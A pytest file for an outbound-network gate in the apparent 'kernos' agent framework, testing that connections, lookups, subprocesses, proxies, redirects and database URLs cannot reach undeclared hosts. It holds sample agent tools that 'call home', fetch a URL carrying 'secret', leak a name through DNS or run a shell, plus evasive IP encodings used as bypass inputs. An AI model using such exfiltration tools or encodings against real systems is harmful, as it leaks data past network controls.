"""I10 sovereign: no byte leaves for an address outside of the declared networks, whatever the program, tool or
configuration asks. What a gate says before anything runs is in `tests/drivers/test_network.py`."""

from __future__ import annotations

import asyncio
import http.client
import json
import os
import socket
import subprocess
import sys
import threading
import urllib.request
from collections.abc import Callable, Iterator, Mapping
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
import uvloop
from sqlalchemy import make_url

from kernos.boot import System, wiring
from kernos.drivers.engine.client import OpenAIEngine
from kernos.drivers.network import gate as network
from kernos.drivers.network.gate import Gate
from kernos.drivers.sandbox import bubblewrap
from kernos.kernel.errors import BadInput, EngineError, Unsupported
from kernos.kernel.ports import Prompt
from kernos.kernel.types import Json, Message
from tests.drivers.chat_server import Stream, ends, says, serving

LOOPBACK = ["127.0.0.0/8", "::1/128"]
OUT = "192.0.2.1"
REFUSED = "sovereign mode"
Resolver = Callable[..., list[tuple[Any, ...]]]


@pytest.fixture
def closed() -> Iterator[Gate]:
    gate = Gate(LOOPBACK)
    with gate.closed():
        yield gate


@pytest.fixture
def listener() -> Iterator[tuple[str, int]]:
    with socket.create_server(("127.0.0.1", 0)) as opened:
        yield opened.getsockname()


def knock(address: tuple[str, int], family: int = socket.AF_INET, kind: int = socket.SOCK_STREAM) -> None:
    with socket.socket(family, kind) as opened:
        opened.settimeout(2)
        opened.connect(address)


# What the gate lets through


def test_i10_the_declared_networks_are_reached(closed: Gate, listener: tuple[str, int]) -> None:
    knock(listener)
    socket.create_connection(("localhost", listener[1]), 2).close()
    knock(("::ffff:127.0.0.1", listener[1]), socket.AF_INET6)


def test_i10_sockets_of_this_machine_are_none_of_its_business(closed: Gate, tmp_path: Path) -> None:
    with socket.socket(socket.AF_UNIX) as there, socket.socket(socket.AF_UNIX) as here:
        there.bind(str(tmp_path / "s"))
        there.listen()
        here.connect(str(tmp_path / "s"))
    for end in socket.socketpair():
        end.close()


# What it does not


@pytest.mark.parametrize(
    "address",
    [OUT, "10.0.0.1", "8.8.8.8", "0.0.0.0", "", "255.255.255.255", "169.254.169.254", "128.0.0.1", "126.255.255.255"],
)
def test_i10_another_address_is_not_reached(closed: Gate, address: str) -> None:
    with pytest.raises(PermissionError, match=REFUSED):
        knock((address, 80))
    with pytest.raises(PermissionError, match=REFUSED):
        knock((address, 80), kind=socket.SOCK_DGRAM)


@pytest.mark.parametrize(
    "address", [f"::ffff:{OUT}", "2001:db8::1", "64:ff9b::7f00:1", "2002:7f00:1::", "::127.0.0.1", "::"]
)
def test_i10_nor_one_in_the_clothes_of_ipv6(closed: Gate, address: str) -> None:
    with pytest.raises(PermissionError, match=REFUSED):
        knock((address, 80), socket.AF_INET6)


@pytest.mark.parametrize(
    "written", ["3221225985", "0xc0000201", "0300.0.02.01", "192.0.513", f"{OUT}.", "１９２.0.2.1"]
)
def test_i10_nor_one_that_is_written_in_another_way(closed: Gate, written: str) -> None:
    with pytest.raises(OSError, match=f"{REFUSED}|not known"):
        socket.create_connection((written, 80), 2)
    with pytest.raises(OSError, match=f"{REFUSED}|not known"):
        knock((written, 80))
    with pytest.raises(BadInput):
        Gate(LOOPBACK).check("engines.far", f"http://{written}/v1")


def test_i10_not_a_single_datagram_leaves(closed: Gate) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as opened:
        with pytest.raises(PermissionError, match=REFUSED):
            opened.sendto(b"secret", (OUT, 53))
        with pytest.raises(PermissionError, match=REFUSED):
            opened.sendmsg([b"secret"], [], 0, (OUT, 53))


def test_i10_a_name_that_is_not_declared_is_not_even_asked_for(closed: Gate) -> None:
    for ask in (
        lambda: socket.getaddrinfo("secret.example.com", 80),
        lambda: socket.getaddrinfo(b"secret.example.com", 80),
        lambda: socket.gethostbyname("secret.example.com"),
        lambda: socket.gethostbyname_ex("secret.example.com"),
        lambda: socket.create_connection(("secret.example.com", 80)),
    ):
        with pytest.raises(PermissionError, match=r"secret\.example\.com may not be looked up"):
            ask()
    with pytest.raises(PermissionError, match=REFUSED):
        knock(
            ("localhost", 80)
        )  # the interpreter has asked for it before the gate sees it, and nobody knows what it got


def test_i10_a_declared_name_is() -> None:
    with Gate(LOOPBACK, hosts=["CRM.invalid."]).closed(), pytest.raises(socket.gaierror):
        socket.getaddrinfo("crm.invalid", 80)


@pytest.mark.parametrize("url", [f"http://{OUT}/", f"https://{OUT}/", f"ftp://{OUT}/"])
def test_i10_libraries_are_refused_too(closed: Gate, url: str) -> None:
    with pytest.raises(OSError, match=REFUSED):
        urllib.request.urlopen(url, timeout=2)


async def test_i10_and_in_every_thread_and_loop(closed: Gate) -> None:
    with pytest.raises(OSError, match=REFUSED):
        await asyncio.open_connection(OUT, 80)
    with pytest.raises(PermissionError, match=REFUSED):
        await asyncio.to_thread(knock, (OUT, 80))
    with pytest.raises(OSError, match=REFUSED):
        await asyncio.to_thread(http.client.HTTPConnection(OUT, timeout=2).connect)


def test_i10_of_two_closed_gates_both_have_to_admit(listener: tuple[str, int]) -> None:
    with Gate(["10.0.0.0/8"]).closed():
        with Gate(LOOPBACK).closed(), pytest.raises(PermissionError, match="10.0.0.0/8"):
            knock(listener)
        with pytest.raises(PermissionError, match="10.0.0.0/8"):
            knock(listener)
    knock(listener)


# Other programs


@pytest.mark.parametrize(
    "start",
    [
        lambda: subprocess.run(["true"]),
        lambda: subprocess.run("true", shell=True),
        lambda: subprocess.run([sys.executable, "-c", "pass"]),
        lambda: os.system("true"),
        lambda: os.posix_spawn("/bin/true", ["true"], {}),
        lambda: os.execv("/nonexistent/true", ["true"]),
    ],
)
def test_i10_a_program_is_not_started_as_its_connections_are_not_seen(
    closed: Gate, start: Callable[[], object]
) -> None:
    with pytest.raises(PermissionError, match="may not be started"):
        start()


def test_i10_unless_it_is_declared() -> None:
    with Gate(LOOPBACK, programs=[("true",), (sys.executable, "-c")]).closed():
        subprocess.run(["true"], check=True)
        subprocess.run([sys.executable, "-c", "pass"], check=True)
        for other in (["false"], [sys.executable, "--version"], ["true/../false"]):
            with pytest.raises(PermissionError, match="may not be started"):
                subprocess.run(other)
        with pytest.raises(PermissionError, match="may not be started"):
            subprocess.run(["true"], executable="/bin/false")


def test_i10_the_programs_of_our_own_drivers_are() -> None:
    gate = Gate(LOOPBACK, programs=wiring._OWN)
    gate.start(sys.executable, [sys.executable, "-m", "kernos.drivers.engine.server"])
    gate.start("/usr/bin/bwrap", list(bubblewrap.boundary()))
    for other in ([sys.executable, "-m", "http.server"], ["bwrap", "--share-net"]):
        with pytest.raises(PermissionError, match="may not be started"):
            gate.start(other[0], other)


# Proxies


@pytest.mark.parametrize("variable", ["HTTP_PROXY", "http_proxy", "ALL_PROXY"])
async def test_i10_no_proxy_of_the_environment_comes_in_between(
    monkeypatch: pytest.MonkeyPatch, variable: str, listener: tuple[str, int]
) -> None:
    proxy = f"http://127.0.0.1:{listener[1]}"  # in a declared network, and it would send anything anywhere
    monkeypatch.setenv(variable, proxy)
    with serving(Stream([says("hello"), ends()])) as there:
        with Gate(LOOPBACK).closed():
            assert variable not in os.environ
            await asyncio.to_thread(lambda: urllib.request.urlopen(f"{there.url}/models", timeout=5).close())
        assert os.environ[variable] == proxy
        engine = OpenAIEngine(there.url, direct=True)
        assert (await engine.generate(Prompt((Message("user", "hello"),)), lambda text: None)).action.text == "hello"
        await engine.close()


# Engines


async def generated(url: str) -> str:
    engine = OpenAIEngine(url, "m", calls="native", direct=True)
    try:
        with Gate(LOOPBACK, hosts=["models.internal"]).closed(), pytest.raises(EngineError) as raised:
            await engine.generate(Prompt((Message("user", "hello"),)), lambda text: None)
    finally:
        await engine.close()
    return str(raised.value)


def answers(*addresses: str) -> Resolver:
    """A name server that gives another answer each time; the last one for ever."""
    left = list(addresses)

    def resolve(_: Any, port: Any, *rest: Any, **more: Any) -> list[tuple[Any, ...]]:
        address = left.pop(0) if len(left) > 1 else left[0]
        return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", (address, int(port or 0)))]

    return resolve


async def test_i10_a_name_that_has_moved_since_it_was_checked_is_not_followed(monkeypatch: pytest.MonkeyPatch) -> None:
    url = "http://models.internal:80/v1"
    monkeypatch.setattr(socket, "getaddrinfo", answers("127.0.0.1", OUT))
    Gate(LOOPBACK).check("kernos.toml: engines.far", url)
    said = await generated(url)
    assert (
        said
        == f"cannot reach the model server at {url}: sovereign mode: {OUT} is not an address in 127.0.0.0/8, ::1/128"
    )


@pytest.mark.parametrize("target", [f"http://{OUT}/v1", "http://elsewhere.example/v1", f"http://[::ffff:{OUT}]/v1"])
async def test_i10_a_redirect_out_is_not_followed(target: str) -> None:
    class Away(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            self.send_response(307)
            self.send_header("Location", f"{target}/chat/completions")
            self.send_header("Content-Length", "0")
            self.end_headers()

        def log_message(self, format: str, *args: object) -> None:
            """Quiet."""

    with ThreadingHTTPServer(("127.0.0.1", 0), Away) as there:
        thread = threading.Thread(target=there.serve_forever, args=(0.01,))
        thread.start()
        try:
            assert REFUSED in await generated(f"http://127.0.0.1:{there.server_port}/v1")
        finally:
            there.shutdown()
            thread.join()


# PostgreSQL, whose client connects in C


def pinned(url: str, environ: Mapping[str, str] | None = None) -> str:
    gate = Gate(LOOPBACK)
    return gate.pin("journal.url", make_url(url), environ or {}).render_as_string(hide_password=False)


@pytest.mark.parametrize(
    ("url", "to"),
    [
        ("postgresql://u:p%40w@127.0.0.1/db", "postgresql://u:p%40w@127.0.0.1/db?hostaddr=127.0.0.1"),
        ("postgresql://u@localhost:5433/db", "postgresql://u@localhost:5433/db?hostaddr=127.0.0.1"),
        ("postgresql://u@/db?host=/run/pg", "postgresql://u@/db?host=%2Frun%2Fpg"),
        ("postgresql:///db", "postgresql:///db"),
        ("postgresql://u@db/x?hostaddr=127.0.0.2", "postgresql://u@db/x?hostaddr=127.0.0.2"),
    ],
)
def test_i10_the_address_of_a_database_is_pinned(url: str, to: str) -> None:
    assert pinned(url) == to


@pytest.mark.parametrize(
    ("url", "environ"),
    [
        (f"postgresql://u@{OUT}/db", {}),
        (f"postgresql://u@localhost/db?host={OUT}", {}),
        (f"postgresql://u@localhost/db?hostaddr={OUT}", {}),
        ("postgresql://u@localhost/db?host=localhost,192.0.2.1", {}),
        ("postgresql://u@/db?host=localhost&host=192.0.2.1", {}),
        ("postgresql://u@/db?service=far", {}),
        ("postgresql:///db", {"PGHOST": OUT}),
        ("postgresql:///db", {"PGSERVICE": "far"}),
        ("postgresql:///db", {"PGHOSTADDR": OUT}),
        ("postgresql://u@/db?host=/run/pg", {"PGHOSTADDR": OUT}),
        ("postgresql://u@host.invalid/db", {}),
    ],
)
def test_i10_a_database_elsewhere_is_refused(url: str, environ: Mapping[str, str]) -> None:
    with pytest.raises(BadInput, match=r"^journal\.url: "):
        pinned(url, environ)


def test_i10_a_host_of_the_environment_is_written_down() -> None:
    found = make_url(pinned("postgresql:///db", {"PGHOST": "localhost", "PGHOSTADDR": OUT})).query
    assert found == {"host": "localhost", "hostaddr": "127.0.0.1"}


def test_i10_a_url_that_cannot_be_read_is_not_shown() -> None:
    for url in ("postgresql:u:secretpw@localhost", "postgresql://u:secretpw@localhost:port/db"):
        with pytest.raises(BadInput) as raised:
            network.server("journal.url", url, Gate(LOOPBACK))
        assert "secretpw" not in str(raised.value)


async def test_i10_a_database_whose_name_has_moved_is_still_the_one_that_was_checked(
    url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    named = make_url(url).set(host="db.internal").render_as_string(hide_password=False)
    place = company(tmp_path, f'[journal]\nurl = "{named}"\n', "reply", {"text": "hello"})
    monkeypatch.setattr(socket, "getaddrinfo", answers("127.0.0.1", OUT))
    kernel = await System().kernel(place)
    try:
        assert (await kernel.tick(await kernel.spawn("ada", "bob", "hello"))).phase == "waiting"
    finally:
        await kernel.close()
    with pytest.raises(BadInput, match=f"db.internal, which is {OUT}"):
        await System().ledger(place)


# A whole company


TOOLS = f"""
import os, socket, subprocess, urllib.request
import kernos

@kernos.tool
def call_home() -> str:
    '''Send data home.'''
    with socket.socket() as opened:
        opened.settimeout(2)
        opened.connect(("{OUT}", 80))
    return "sent"

@kernos.tool
async def fetch() -> str:
    '''Fetch a page.'''
    return urllib.request.urlopen("http://{OUT}/?q=secret", timeout=2).read()

@kernos.tool
def ask_name() -> str:
    '''Tell a name server.'''
    return socket.gethostbyname("secret.example.com")

@kernos.tool
def shell() -> str:
    '''Run a program.'''
    return subprocess.run(["sh", "-c", "echo ran"], capture_output=True, text=True).stdout
"""
NAMES = ("call_home", "fetch", "ask_name", "shell")


def company(home: Path, car: str, action: str, arguments: Mapping[str, Json] | None = None) -> Path:
    """An employee whose model takes this action and then says that it is done."""
    (home / "agents" / "ada").mkdir(parents=True)
    (home / "agents" / "ada" / "AGENTS.md").write_text("You help.")
    (home / "tools.py").write_text(TOOLS)
    actions = [{"name": action, "arguments": arguments or {}}, {"name": "reply", "arguments": {"text": "Done."}}]
    (home / "script.json").write_text(json.dumps(actions))
    tools = "".join(f'[tools.{name}]\ndriver = "python"\nfunction = "tools.py:{name}"\n' for name in NAMES)
    engine = '[engines.local]\ndriver = "scripted"\nscript = "script.json"\n'
    (home / "kernos.toml").write_text(f"{car}{engine}{tools}[employees.ada]\ntools = {list(NAMES)}\n")
    return home


async def journaled(place: Path, words: str) -> list[Json]:
    """What the journal says after one turn."""
    kernel = await System().kernel(place)
    try:
        pid = await kernel.spawn("ada", "bob", words)
        await kernel.tick(pid)
        ledger = await System().ledger(place)
        try:
            return [dict(row.body) for row in await ledger.records(pid)]
        finally:
            await ledger.close()
    finally:
        await kernel.close()


@pytest.mark.parametrize("name", NAMES)
async def test_i10_what_a_tool_was_refused_is_in_the_journal(tmp_path: Path, name: str) -> None:
    rows = await journaled(company(tmp_path, "", name), f"Please {name}.")
    [failed] = [row for row in rows if row.get("is") == "failed"]
    assert failed["tool"] == name
    assert REFUSED in failed["error"]


async def test_i10_a_company_may_declare_programs_and_do_without_it_all(tmp_path: Path) -> None:
    declared = company(tmp_path / "a", '[networks]\nprograms = ["sh"]\n', "shell")
    free = company(tmp_path / "b", "[networks]\nsovereign = false\n", "shell")
    for place in (declared, free):
        rows = await journaled(place, "Run a program.")
        assert [row["value"] for row in rows if row.get("is") == "returned"] == ["ran\n"]


async def test_i10_the_gate_is_closed_before_a_companys_code_is_read_and_opens_with_its_kernel(tmp_path: Path) -> None:
    place = company(tmp_path, "", "reply", {"text": "x"})
    (place / "tools.py").write_text(TOOLS + "\ncall_home.function()\n")
    for fault in System().faults(place)[:1]:
        assert REFUSED in str(fault)
    with pytest.raises(BadInput, match=REFUSED):
        await System().kernel(place)
    assert network._closed == []


async def test_i10_networks_that_are_none_are_one_fault(tmp_path: Path) -> None:
    place = company(tmp_path, '[networks]\nallow = ["loopback"]\n', "reply", {"text": "x"})
    assert [str(fault).partition(":")[0] for fault in System().faults(place)] == ["kernos.toml"]
    with pytest.raises(BadInput, match=r"networks\.allow"):
        await System().kernel(place)


def test_i10_an_event_loop_that_connects_unseen_is_refused() -> None:
    async def enter() -> None:
        with Gate(LOOPBACK).closed():
            pass

    with asyncio.Runner(loop_factory=uvloop.new_event_loop) as runner, pytest.raises(Unsupported, match="uvloop"):
        runner.run(enter())


async def test_i10_who_calls_from_outside_of_the_networks_is_not_answered(tmp_path: Path) -> None:
    (tmp_path / "agents").mkdir()
    (tmp_path / "agents" / "ada.md").write_text("You help.")
    (tmp_path / "kernos.toml").write_text('[networks]\nallow = ["127.0.0.0/8", "10.0.0.0/8"]\n')
    admits = System().admits(tmp_path)
    assert [admits(host) for host in ("127.0.0.1", "10.1.2.3")] == [True, True]
    assert [admits(host) for host in ("192.0.2.1", "::ffff:192.0.2.1")] == [False, False]
